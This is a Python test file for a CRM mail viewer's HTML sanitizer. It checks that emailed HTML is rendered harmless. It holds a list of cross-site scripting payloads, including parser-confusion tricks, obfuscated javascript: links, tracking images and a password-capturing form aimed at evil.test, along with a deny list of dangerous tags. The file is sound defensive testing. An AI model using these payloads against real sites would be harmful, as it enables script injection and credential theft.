"""What somebody sends cannot act in the browser of the one who reads it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as parser

from tracking.crm.display import PLACEHOLDER, editable, page, plain_html, safe_html, sendable

PICTURE = "data:image/png;base64,iVBORw0KGgo="
ALLOWED_SOURCES = re.compile(r"data:image/(png|jpeg|jpg|gif|webp);base64,|" + re.escape(PLACEHOLDER))
NEVER = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "svg",
    "math",
}

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": '<p onclick="alert(1)" ONMOUSEOVER=alert(2)>x</p>',
    "a handler on an image": "<img src=x onerror=alert(1)>",
    "an SVG that loads": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "MathML that changes the parser": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "noscript that changes the parser": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a style sheet": "<style>@import url(https://evil.test/x.css);</style>",
    "a style that loads": '<p style="background:url(https://evil.test/p.gif);color:red">x</p>',
    "a style that loads, escaped": '<p style="background:u\\72 l(https://evil.test/p.gif)">x</p>',
    "a style with an expression": '<p style="width:expression(alert(1))">x</p>',
    "a style that covers the page": '<div style="position:fixed;top:0;left:0;z-index:9">x</div>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "another base": '<base href="https://evil.test/">',
    "a form": '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
    "a link that is HTML": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a link that is a script": '<a href="javascript:alert(1)">x</a>',
    "a link that is a script, with entities": '<a href="&#106;ava&#115;cript&colon;alert(1)">x</a>',
    "a link that is a script, with blanks": '<a href=" java\tscript:alert(1)">x</a>',
    "a link into the console": '<a href="/logout/">x</a>',
    "a frame": '<iframe src="https://evil.test/" srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="https://evil.test/x.swf"><embed src="https://evil.test/x.swf"></object>',
    "a remote image": '<img src="https://evil.test/p.gif" srcset="https://evil.test/p2.gif 2x">',
    "a remote image without a scheme": '<img src="//evil.test/p.gif">',
    "an image that is SVG": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "a remote background": '<table background="https://evil.test/p.gif"><tr><td>x</td></tr></table>',
    "a video": '<video src="https://evil.test/v.mp4" poster="https://evil.test/p.gif"></video>',
    "a comment for one browser": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "deep nesting": "<div>" * 400 + "<script>alert(1)</script>" + "</div>" * 400,
}


def assert_harmless(shown: str, sources: re.Pattern[str] = ALLOWED_SOURCES) -> None:
    """Nothing active, nothing remote, nothing that leads back into the console."""
    for node in parser.fromstring(f"<div>{shown}</div>").iter():
        assert node.tag not in NEVER, shown
        for name, value in node.attrib.items():
            assert not name.startswith("on"), shown
            assert name in ("style", "title", "alt", "href", "src", "rel", "target") or ":" not in value, shown
            if name == "src":
                assert sources.match(value), shown
            if name == "href":
                assert re.match(r"\s*(https?|mailto|tel):", value), shown
            if name == "style":
                assert not re.search(r"url|expression|position|\\", value), shown


@pytest.mark.parametrize("sent", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_comes_out_harmless(sent: str) -> None:
    shown = safe_html(f"<p>before</p>{sent}<p>after</p>", lambda _: "")
    assert_harmless(shown)
    assert "before" in shown


@given(st.text(alphabet="<>/=\"' &;:#()abcijlmnoprstuvx\\\t", max_size=80))
def test_whatever_is_sent_comes_out_harmless(sent: str) -> None:
    assert_harmless(safe_html(f"<a href='{sent}'>{sent}</a><img src='{sent}'><p style='{sent}'>{sent}", lambda _: ""))


IN_AN_EDITOR = re.compile(r"/here\.svg#src:\S+\Z|data:image/(png|jpeg|jpg|gif|webp);base64,")


@pytest.mark.parametrize("sent", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_that_is_quoted_is_harmless_in_the_editor(sent: str) -> None:
    assert_harmless(editable(sent, lambda _: "/here.svg"), IN_AN_EDITOR)


@given(st.text(alphabet="<>/=\"' &;:#()abcijlmnoprstuvx\\\t", max_size=80))
def test_what_the_editor_shows_is_what_goes_out(sent: str) -> None:
    html = f"<img src='cid:{sent}'><img src='https://them.test/{sent}'><p title='{sent}'>{sent}"
    shown = editable(html, lambda _: "/here.svg")
    assert_harmless(shown, IN_AN_EDITOR)
    assert sendable(shown) == sendable(html)


def test_an_image_of_the_mail_itself_is_shown_and_a_missing_one_is_named() -> None:
    shown = safe_html('<img src="cid:a%40b"><img src="CID:c@d">', lambda cid: PICTURE if cid == "a@b" else "")
    assert shown == f'<img src="{PICTURE}"><img src="{PLACEHOLDER}">'


def test_the_look_of_a_mail_is_kept() -> None:
    sent = '<td style="color:#123456;padding:4px" bgcolor="#eeeeee"><b>Offer</b></td>'
    shown = safe_html(f"<table><tbody><tr>{sent}</tr></tbody></table>", lambda _: "")
    assert 'style="color:#123456;padding:4px"' in shown
    assert 'bgcolor="#eeeeee"' in shown
    assert "<b>Offer</b>" in shown


def test_one_bad_style_does_not_take_the_good_ones_with_it() -> None:
    shown = safe_html('<p style="color:red;background:url(data:image/png;base64,AA);margin:1px">x</p>', lambda _: "")
    assert shown == '<p style="color:red;margin:1px">x</p>'


def test_a_link_opens_elsewhere_and_tells_nobody_where_it_was() -> None:
    shown = safe_html('<a href="https://them.test/">their page</a>', lambda _: "")
    assert 'rel="noopener noreferrer"' in shown
    assert 'target="_blank"' in shown


def test_plain_text_is_shown_as_it_was_written() -> None:
    shown = plain_html("Dear Alice,\n\n  1 < 2 & <script>alert(1)</script>\n")
    (block,) = parser.fragments_fromstring(shown)
    assert block.text_content() == "Dear Alice,\n\n  1 < 2 & <script>alert(1)</script>\n"
    assert "pre-wrap" in block.get("style", "")


def test_a_page_is_a_whole_document() -> None:
    assert page("<p>x</p>").startswith("<!DOCTYPE html>")
